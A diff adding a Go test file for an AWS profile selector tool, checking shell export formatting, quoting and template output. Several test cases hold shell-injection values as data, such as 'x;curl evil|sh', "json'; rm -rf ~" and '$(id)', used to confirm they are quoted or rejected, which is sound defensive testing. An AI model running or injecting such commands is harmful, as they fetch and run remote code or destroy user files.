@@ -0,0 +1,241 @@
+package profileselector
+
+import (
+	"io"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestLoadOutputField(t *testing.T) {
+	config := `[profile json-profile]
+region = ap-northeast-1
+output = json
+
+[profile no-output]
+region = us-east-1
+`
+	profiles, err := loadAWSProfilesConcurrent("config", withConfigSource(strings.NewReader(config)))
+	if err != nil {
+		t.Fatalf("loadAWSProfilesConcurrent() error = %v", err)
+	}
+	want := map[string]string{"json-profile": "json", "no-output": ""}
+	for _, p := range profiles {
+		if p.Output != want[p.Name] {
+			t.Errorf("%s の Output = %q, want %q", p.Name, p.Output, want[p.Name])
+		}
+	}
+}
+
+func TestFormatExport(t *testing.T) {
+	tests := []struct {
+		name    string
+		profile awsProfile
+		format  outputFormat
+		want    string
+	}{
+		{
+			name:    "bash",
+			profile: awsProfile{Name: "dev"},
+			format:  outputFormat{withExport: true},
+			want:    "export AWS_DEFAULT_PROFILE=dev",
+		},
+		{
+			name:    "fish",
+			profile: awsProfile{Name: "dev"},
+			format:  outputFormat{withExport: true, shell: "fish"},
+			want:    "set -gx AWS_DEFAULT_PROFILE dev",
+		},
+		{
+			name:    "export キーワードなし",
+			profile: awsProfile{Name: "dev"},
+			format:  outputFormat{},
+			want:    "AWS_DEFAULT_PROFILE=dev",
+		},
+		{
+			name:    "output も出力",
+			profile: awsProfile{Name: "dev", Output: "json"},
+			format:  outputFormat{withExport: true, exportOutput: true},
+			want:    "export AWS_DEFAULT_PROFILE=dev\nexport AWS_DEFAULT_OUTPUT=json",
+		},
+		{
+			name:    "direnv では region も出力",
+			profile: awsProfile{Name: "dev", Region: "ap-northeast-1"},
+			format:  outputFormat{withExport: true, shell: direnvShell},
+			want:    "export AWS_DEFAULT_PROFILE=dev\nexport AWS_DEFAULT_REGION=ap-northeast-1",
+		},
+		{
+			name:    "region のシェルの特殊文字を引用",
+			profile: awsProfile{Name: "dev", Region: "x;curl evil|sh"},
+			format:  outputFormat{withExport: true, shell: direnvShell},
+			want:    "export AWS_DEFAULT_PROFILE=dev\nexport AWS_DEFAULT_REGION='x;curl evil|sh'",
+		},
+		{
+			name:    "output のシェルの特殊文字を fish の形式で引用",
+			profile: awsProfile{Name: "dev", Output: "json'; rm -rf ~"},
+			format:  outputFormat{withExport: true, shell: "fish", exportOutput: true},
+			want:    "set -gx AWS_DEFAULT_PROFILE dev\nset -gx AWS_DEFAULT_OUTPUT 'json\\'; rm -rf ~'",
+		},
+		{
+			name:    "env_overrides の値を引用",
+			profile: awsProfile{Name: "dev", EnvOverrides: []string{"AWS_CA_BUNDLE=/etc/ssl/my bundle.pem"}},
+			format:  outputFormat{withExport: true},
+			want:    "export AWS_DEFAULT_PROFILE=dev\nexport AWS_CA_BUNDLE='/etc/ssl/my bundle.pem'",
+		},
+		{
+			name: "環境変数の名前として使えない env_overrides は出力しない",
+			profile: awsProfile{Name: "dev", EnvOverrides: []string{
+				"X;touch /tmp/pwned;Y=1",
+				"$(id)=1",
+				"1ABC=1",
+				"=empty",
+				"AWS_CA_BUNDLE=/etc/ssl/bundle.pem",
+			}},
+			format: outputFormat{withExport: true},
+			want:   "export AWS_DEFAULT_PROFILE=dev\nexport AWS_CA_BUNDLE=/etc/ssl/bundle.pem",
+		},
+		{
+			name:    "認証情報の環境変数も削除",
+			profile: awsProfile{Name: "dev"},
+			format:  outputFormat{withExport: true, cleanEnv: true},
+			want:    "unset AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY AWS_SESSION_TOKEN\nexport AWS_DEFAULT_PROFILE=dev",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := formatExport(tt.profile, tt.format); got != tt.want {
+				t.Errorf("formatExport() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestFormatSelectionRejectsShellMetaCharacters(t *testing.T) {
+	tests := []struct {
+		name    string
+		wantErr bool
+	}{
+		{name: "dev", wantErr: false},
+		{name: "prod-admin@corp.example", wantErr: false},
+		{name: "x;curl evil|sh", wantErr: true},
+		{name: "$(id)", wantErr: true},
+		{name: "`id`", wantErr: true},
+		{name: "a b", wantErr: true},
+		{name: "a'b", wantErr: true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			for _, format := range []outputFormat{{withExport: true}, {profileOnly: true}} {
+				_, err := formatSelection(awsProfile{Name: tt.name}, format)
+				if (err != nil) != tt.wantErr {
+					t.Errorf("formatSelection(%q) error = %v, wantErr %v", tt.name, err, tt.wantErr)
+				}
+			}
+		})
+	}
+}
+
+func TestTemplateOutput(t *testing.T) {
+	p := awsProfile{Name: "prod", RoleArn: "arn:aws:iam::123456789012:role/Admin", Region: "us-east-1", AccountID: "123456789012"}
+	tests := []struct {
+		name         string
+		template     string
+		want         string
+		wantParseErr bool
+		wantExecErr  bool
+	}{
+		{name: "名前", template: "export AWS_PROFILE={{.Name}}", want: "export AWS_PROFILE=prod"},
+		{name: "複数のフィールド", template: "{{.Name}} {{.Region}} {{.AccountID}} {{.RoleArn}}", want: "prod us-east-1 123456789012 arn:aws:iam::123456789012:role/Admin"},
+		{name: "条件分岐", template: "{{if .Region}}region={{.Region}}{{end}}", want: "region=us-east-1"},
+		{name: "構文エラー", template: "{{.Name", wantParseErr: true},
+		{name: "存在しないフィールド", template: "{{.Missing}}", wantExecErr: true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := parseOptionsTo(io.Discard, []string{"--template", tt.template})
+			if (err != nil) != tt.wantParseErr {
+				t.Fatalf("parseOptionsTo(--template %q) error = %v, wantErr %v", tt.template, err, tt.wantParseErr)
+			}
+			if tt.wantParseErr {
+				return
+			}
+			tmpl, err := parseOutputTemplate(tt.template)
+			if err != nil {
+				t.Fatal(err)
+			}
+			got, err := formatSelection(p, outputFormat{template: tmpl})
+			if (err != nil) != tt.wantExecErr {
+				t.Fatalf("formatSelection() error = %v, wantErr %v", err, tt.wantExecErr)
+			}
+			if got != tt.want {
+				t.Errorf("formatSelection() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestProfileOnlyOutput(t *testing.T) {
+	tests := []struct {
+		name    string
+		profile awsProfile
+		format  outputFormat
+	}{
+		{name: "bash", profile: awsProfile{Name: "dev"}, format: outputFormat{withExport: true, profileOnly: true}},
+		{name: "fish", profile: awsProfile{Name: "dev"}, format: outputFormat{withExport: true, shell: "fish", profileOnly: true}},
+		{name: "direnv", profile: awsProfile{Name: "dev", Region: "us-east-1"}, format: outputFormat{withExport: true, shell: direnvShell, profileOnly: true}},
+		{name: "output と認証情報の削除", profile: awsProfile{Name: "dev", Output: "json"}, format: outputFormat{withExport: true, exportOutput: true, cleanEnv: true, profileOnly: true}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := formatSelection(tt.profile, tt.format)
+			if err != nil {
+				t.Fatalf("formatSelection() error = %v", err)
+			}
+			if got != tt.profile.Name {
+				t.Errorf("formatSelection() = %q, want %q", got, tt.profile.Name)
+			}
+			for _, syntax := range []string{"export", "set ", "unset", "=", "AWS_"} {
+				if strings.Contains(got, syntax) {
+					t.Errorf("formatSelection() = %q にシェルの構文 %q が含まれています", got, syntax)
+				}
+			}
+		})
+	}
+}
+
+func TestRunSelectProfileOnly(t *testing.T) {
+	dir := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", dir)
+	t.Setenv(credentialsFileEnv, filepath.Join(dir, "credentials"))
+	config := filepath.Join(dir, "config")
+	if err := os.WriteFile(config, []byte("[profile dev]\nregion = us-east-1\n\n[profile prod]\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		name     string
+		args     []string
+		wantCode int
+		want     string
+	}{
+		{name: "プロファイル名だけを出力", args: []string{"--index", "0"}, want: "dev\n"},
+		{name: "--shell を指定しても名前だけ", args: []string{"--index", "1", "--shell", "fish"}, want: "prod\n"},
+		{name: "--template とは同時に指定できない", args: []string{"--index", "0", "--template", "{{.Name}}"}, wantCode: 2},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			opts, err := parseOptionsTo(io.Discard, append([]string{"--config", config, "--profile-only"}, tt.args...))
+			if err != nil {
+				t.Fatalf("parseOptionsTo() error = %v", err)
+			}
+			var code int
+			stdout, _ := captureOutput(t, func() { code = runSelect(opts) })
+			if code != tt.wantCode {
+				t.Errorf("終了コード = %d, want %d", code, tt.wantCode)
+			}
+			if stdout != tt.want {
+				t.Errorf("標準出力 = %q, want %q", stdout, tt.want)
+			}
+		})
+	}
+}